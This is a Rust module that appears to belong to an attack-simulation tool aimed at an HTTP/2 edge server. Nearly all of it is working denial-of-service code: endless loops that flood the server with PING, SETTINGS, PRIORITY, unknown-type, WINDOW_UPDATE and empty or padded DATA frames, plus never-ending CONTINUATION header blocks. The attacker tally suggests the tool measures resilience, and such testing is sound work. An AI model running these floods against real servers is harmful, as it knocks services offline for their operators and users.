//! Frames that cost the attacker nothing and are no request: each makes the edge answer, remember or look.

use std::io;

use super::frames::{Kind, PADDED, PAYLOAD_BYTES_MAX, frame, literal, number};
use super::session::{Session, export};
use super::wire::Wire;

/// Frames written at once.
const BATCH: u64 = 256;

/// Sends the same frames for as long as they are taken.
async fn flood(wire: Wire, one: &[u8]) -> io::Result<()> {
    let mut session = Session::open(wire, &[]).await?;
    let batch = one.repeat(usize::try_from(BATCH).unwrap_or(1));
    loop {
        session.send(&batch, BATCH).await?;
    }
}

fn one(kind: Kind, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    frame(&mut out, kind, 0, stream, payload);
    out
}

pub(super) async fn ping(wire: Wire) -> io::Result<()> {
    flood(wire, &one(Kind::Ping, 0, &[0; 8])).await
}

/// As [`ping`], and the answers stay unread.
pub(super) async fn ping_unread(wire: Wire) -> io::Result<()> {
    let mut session = Session::open(wire, &[]).await?;
    let batch = one(Kind::Ping, 0, &[0; 8]).repeat(256);
    loop {
        session.wire.send(&batch).await?;
        session.wire.attacker.tally.frames(BATCH);
    }
}

pub(super) async fn settings(wire: Wire) -> io::Result<()> {
    flood(wire, &one(Kind::Settings, 0, &[])).await
}

pub(super) async fn priority(wire: Wire) -> io::Result<()> {
    flood(wire, &one(Kind::Priority, 1, &[0, 0, 0, 0, 16])).await
}

pub(super) async fn unknown(wire: Wire) -> io::Result<()> {
    flood(wire, &one(Kind::Unknown, 0, &[0; 8])).await
}

/// Room given to an open request, a byte at a time.
pub(super) async fn window_update(wire: Wire) -> io::Result<()> {
    let mut session = Session::open(wire, &[]).await?;
    let stream = session.open_export().await?;
    let mut batch = Vec::new();
    for _ in 0..BATCH {
        number(&mut batch, Kind::WindowUpdate, stream, 1);
    }
    loop {
        session.send(&batch, BATCH).await?;
    }
}

async fn data(wire: Wire, flags: u8, payload: &[u8]) -> io::Result<()> {
    let mut session = Session::open(wire, &[]).await?;
    let stream = session.open_export().await?;
    let mut batch = Vec::new();
    for _ in 0..BATCH {
        frame(&mut batch, Kind::Data, flags, stream, payload);
    }
    loop {
        // What the windows do not let through would be answered by an end for another reason.
        session.take_room(payload.len() << 8).await?;
        session.send(&batch, BATCH).await?;
    }
}

/// A body of nothing.
pub(super) async fn empty_data(wire: Wire) -> io::Result<()> {
    data(wire, 0, &[]).await
}

/// A body of nothing but padding of nothing.
pub(super) async fn padded_data(wire: Wire) -> io::Result<()> {
    data(wire, PADDED, &[0]).await
}

/// A body of a byte in each frame.
pub(super) async fn tiny_data(wire: Wire) -> io::Result<()> {
    data(wire, 0, b"a").await
}

async fn continuation(wire: Wire, payload: &[u8], batch: usize) -> io::Result<()> {
    let mut session = Session::open(wire, &[]).await?;
    let stream = session.stream()?;
    session.wire.attacker.tally.requests(1);
    let first = one(Kind::Headers, stream, &export("Bearer nobody"));
    session.send(&first, 1).await?;
    let more = one(Kind::Continuation, stream, payload).repeat(batch);
    loop {
        session.send(&more, batch as u64).await?;
    }
}

/// A header block that never ends, of headers.
pub(super) async fn continuation_full(wire: Wire) -> io::Result<()> {
    let mut headers = Vec::new();
    while headers.len() + 16 < PAYLOAD_BYTES_MAX {
        literal(&mut headers, "x", b"y");
    }
    continuation(wire, &headers, 4).await
}

/// A header block that never ends, of nothing.
pub(super) async fn continuation_empty(wire: Wire) -> io::Result<()> {
    continuation(wire, &[], 256).await
}
